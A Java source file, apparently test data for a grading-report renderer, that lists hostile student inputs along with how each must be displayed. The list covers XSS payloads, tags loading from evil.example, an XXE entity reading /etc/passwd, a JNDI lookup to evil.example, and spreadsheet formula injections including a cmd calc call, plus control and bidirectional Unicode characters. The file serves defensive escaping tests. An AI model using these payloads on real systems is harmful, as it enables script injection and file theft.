package org.chainmark.reports;

import java.util.List;
import java.util.stream.Stream;

/**
 * A text that a student could send to confuse a page, a table or a reader.
 *
 * @param sent the text as it is in the result
 * @param shown what a reader of a page must see instead of it
 */
public record HostileText(String sent, String shown) {
    private static HostileText same(String text) {
        return new HostileText(text, text);
    }

    private static HostileText replaced(String sent, String shown) {
        return new HostileText(sent, shown);
    }

    /** All of them; none is longer than what the pages show of any text. */
    public static List<HostileText> all() {
        return Stream.of(markup(), templates(), tables(), characters())
                .flatMap(List::stream)
                .toList();
    }

    private static List<HostileText> markup() {
        return List.of(
                same("<script>alert(1)</script>"),
                same("</script><script>alert(1)</script>"),
                same("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
                same("<img src=x onerror=alert(1)>"),
                same("\" onmouseover=\"alert(1)"),
                same("' onfocus='alert(1)' autofocus='"),
                same("\"><svg onload=alert(1)>"),
                same("<svg><style><img src=x onerror=alert(1)></style></svg>"),
                same("<a href=\"javascript:alert(1)\">here</a>"),
                same("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
                same("<base href=\"https://evil.example/\">"),
                same("<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
                same("<link rel=stylesheet href=https://evil.example/x.css>"),
                same("<style>body{display:none}</style>"),
                same("</style><b>bold</b>"),
                same("</title></head><body onload=alert(1)>"),
                same("</td></tr></table><h1>Full points</h1>"),
                same("</pre></details><h2>Passed</h2><pre>"),
                same("<b>never closed <i>"),
                same("<!-- never closed"),
                same("--><script>alert(1)</script><!--"),
                same("]]><script>alert(1)</script><![CDATA["),
                same("<![CDATA[ <b>x</b> ]]>"),
                same("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
                same("<template><script>alert(1)</script></template>"),
                same("<plaintext>"),
                same("<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">"),
                same("&lt;b&gt; &amp; &#60;script&#62; &nbsp; &quot;"),
                same("&#x3C;script&#x3E; &unknown; &"),
                same("List<Map<String, int[]>> a = b < c && d > e ? \"f\" : 'g';"));
    }

    private static List<HostileText> templates() {
        return List.of(
                same("{{name}} {{{name}}} {{&name}}"),
                same("{{>style}}{{#exercises}}{{/exercises}}{{^first}}"),
                same("{{=<% %>=}}<%name%>"),
                same("{actual} {what} {?message}gone{/} {/}"),
                same("`code` `` ` {op}"),
                same("${jndi:ldap://evil.example/x} #{7*7} %s %n %1$s"));
    }

    private static List<HostileText> tables() {
        return List.of(
                same("=HYPERLINK(\"https://evil.example/\"&A1;\"click\")"),
                same("+1+cmd|' /C calc'!A0"),
                same("-2+3"),
                same("@SUM(A1:A9)"),
                same("\t=1+1"),
                same("a,\"b\",c;=1+1"),
                same("\"=1+1"),
                same("a;\"=1+1"),
                same("\uFF1D1+1"),
                replaced("\r\n=1+1", "\n=1+1"));
    }

    private static List<HostileText> characters() {
        return List.of(
                same("\nfirst line is empty\n\n\nlast too\n"),
                same("tabs\tand  spaces   stay"),
                replaced("one\r\ntwo\rthree", "one\ntwo\u240Dthree"),
                replaced("\u001B[2J\u001B[31mred\u0007\b", "\u241B[2J\u241B[31mred\u2407\u2408"),
                replaced("nul\u0000 and delete\u007F", "nul\u2400 and delete\u2421"),
                replaced("\u0085\u009B31m", "[U+0085][U+009B]31m"),
                replaced("\u202Egnp.exe\u202C", "[U+202E]gnp.exe[U+202C]"),
                replaced("\u2066\u2067\u2068\u2069", "[U+2066][U+2067][U+2068][U+2069]"),
                replaced("\u200Emark\u200F\u061C", "[U+200E]mark[U+200F][U+061C]"),
                replaced("zero\u200Bwidth\uFEFF soft\u00ADhyphen", "zero[U+200B]width[U+FEFF] soft[U+00AD]hyphen"),
                replaced("line\u2028paragraph\u2029", "line[U+2028]paragraph[U+2029]"),
                replaced("\uD83D alone", "[U+D83D] alone"),
                replaced("alone \uDE00", "alone [U+DE00]"),
                replaced("\uDE00\uD83D", "[U+DE00][U+D83D]"),
                replaced("no character \uFFFE\uFFFF", "no character [U+FFFE][U+FFFF]"),
                replaced("tag \uDB40\uDC41", "tag [U+E0041]"),
                same("\u05E9\u05DC\u05D5\u05DD \u0627\u0644\u0633\u0644\u0627\u0645"),
                same("\uD83D\uDC69\u200D\uD83D\uDCBB e\u0301 \u041E\u043B\u0435\u043D\u0430 \u7528"),
                same("Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o"));
    }
}
